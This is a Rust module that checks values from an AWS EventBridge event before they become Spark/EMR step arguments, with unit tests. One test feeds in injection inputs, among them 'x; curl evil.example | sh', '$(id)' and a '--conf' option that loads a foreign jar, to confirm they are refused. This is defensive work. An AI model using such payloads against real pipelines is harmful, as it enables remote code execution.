//! `{event:<path>}` step arguments: values taken from the EventBridge event
//! that started a run, each checked before it can reach a step. Pure.
//!
//! Like `{object}` (see `crate::create::object_key`), a value is a whole
//! argument and may use only characters no shell, Spark, Hadoop or the AWS
//! CLI reads specially: letters, digits and [`ALLOWED_PUNCTUATION`]. A
//! number or `true`/`false` is taken as written; an object, a list, null,
//! an empty text or a path the event does not have refuses the run, naming
//! the path.

use std::collections::BTreeMap;

use serde_json::Value;

use crate::create::error::CreateError;
use crate::profile::{StepSpec, event_path};

/// The punctuation an event value may use besides ASCII letters and digits
/// (`:` and `@` for instants and ARNs' parts, which no shell or Hadoop path
/// list splits on when passed as a whole argument).
pub const ALLOWED_PUNCTUATION: &str = "._-=+/:@";
/// The longest value taken.
pub const MAX_VALUE_BYTES: usize = 1024;

/// The value at `path` (dot-separated keys, or indices into lists).
fn at<'a>(event: &'a Value, path: &str) -> Option<&'a Value> {
    path.split('.').try_fold(event, |v, part| match v {
        Value::Object(fields) => fields.get(part),
        Value::Array(items) => items.get(part.parse::<usize>().ok()?),
        _ => None,
    })
}

/// The values of every `{event:<path>}` argument of `steps`.
pub fn event_values(
    steps: &[StepSpec],
    event: Option<&Value>,
) -> Result<BTreeMap<String, String>, CreateError> {
    let mut values = BTreeMap::new();
    for step in steps {
        for path in step.args.iter().filter_map(|a| event_path(a)) {
            let refuse = |why: String| CreateError::UnsafeEventValue {
                step: step.name.clone(),
                path: path.to_owned(),
                reason: why,
            };
            let Some(event) = event else {
                return Err(refuse(
                    "this run came without an event (start it from its [[event_triggers]], or give the steps' arguments in the invocation's \"steps\")".into(),
                ));
            };
            let text = match at(event, path) {
                None => return Err(refuse("the event has no such field".into())),
                Some(Value::String(s)) => s.clone(),
                Some(v @ (Value::Number(_) | Value::Bool(_))) => v.to_string(),
                Some(other) => {
                    return Err(refuse(format!(
                        "the event's value there is {}, not a text, number or true/false",
                        match other {
                            Value::Null => "null",
                            Value::Array(_) => "a list",
                            _ => "an object",
                        }
                    )));
                }
            };
            if text.is_empty() {
                return Err(refuse("the event's value there is empty".into()));
            }
            // A leading dash would be read as an option (spark-submit
            // --conf=…) where the argument stands before the script.
            if text.starts_with('-') {
                return Err(refuse(
                    "the event's value starts with '-', which a command would read as an option"
                        .into(),
                ));
            }
            if text.len() > MAX_VALUE_BYTES {
                return Err(refuse(format!(
                    "the event's value there is {} bytes long, more than {MAX_VALUE_BYTES}",
                    text.len()
                )));
            }
            if let Some((i, c)) = text
                .char_indices()
                .find(|(_, c)| !c.is_ascii_alphanumeric() && !ALLOWED_PUNCTUATION.contains(*c))
            {
                return Err(refuse(format!(
                    "the event's value contains {c:?} at byte {i}; a step argument from an event may use only letters, digits and {ALLOWED_PUNCTUATION:?}"
                )));
            }
            values.insert(path.to_owned(), text);
        }
    }
    Ok(values)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn steps(args: &[&str]) -> Vec<StepSpec> {
        vec![StepSpec {
            name: "train".into(),
            jar: "command-runner.jar".into(),
            args: args.iter().map(|a| a.to_string()).collect(),
            action_on_failure: Default::default(),
        }]
    }

    fn alarm() -> Value {
        json!({
            "source": "aws.cloudwatch",
            "detail-type": "CloudWatch Alarm State Change",
            "detail": {
                "alarmName": "model-drift",
                "state": {"value": "ALARM", "reason": "Threshold Crossed: 1 out of the last 1 datapoints"},
                "configuration": {"metrics": [{"id": "m1"}]},
                "count": 3,
                "gone": null
            }
        })
    }

    #[test]
    fn values_are_taken_by_path_and_checked() {
        let v = event_values(
            &steps(&[
                "spark-submit",
                "{event:detail.alarmName}",
                "{event:detail.configuration.metrics.0.id}",
                "{event:detail.count}",
            ]),
            Some(&alarm()),
        )
        .unwrap();
        assert_eq!(v["detail.alarmName"], "model-drift");
        assert_eq!(v["detail.configuration.metrics.0.id"], "m1");
        assert_eq!(v["detail.count"], "3");
    }

    #[test]
    fn unsafe_missing_or_structured_values_refuse_the_run_naming_the_path() {
        for (path, says) in [
            ("detail.state.reason", "contains ' '"),
            ("detail.nothing", "no such field"),
            ("detail.state", "an object"),
            ("detail.gone", "null"),
            ("detail.configuration.metrics", "a list"),
        ] {
            let arg = format!("{{event:{path}}}");
            let e = event_values(&steps(&[&arg]), Some(&alarm())).unwrap_err();
            let text = e.to_string();
            assert!(text.contains(path) && text.contains(says), "{path}: {text}");
        }
        let e = event_values(&steps(&["{event:detail.alarmName}"]), None).unwrap_err();
        assert!(e.to_string().contains("without an event"), "{e}");
    }

    #[test]
    fn a_shell_cannot_be_reached_through_an_event_value() {
        let mut evil = alarm();
        evil["detail"]["alarmName"] = json!("x; curl evil.example | sh");
        assert!(event_values(&steps(&["{event:detail.alarmName}"]), Some(&evil)).is_err());
        evil["detail"]["alarmName"] = json!("$(id)");
        assert!(event_values(&steps(&["{event:detail.alarmName}"]), Some(&evil)).is_err());
        evil["detail"]["alarmName"] = json!("--conf=spark.jars=s3://x/evil.jar");
        let e = event_values(&steps(&["{event:detail.alarmName}"]), Some(&evil)).unwrap_err();
        assert!(e.to_string().contains("option"), "{e}");
    }
}
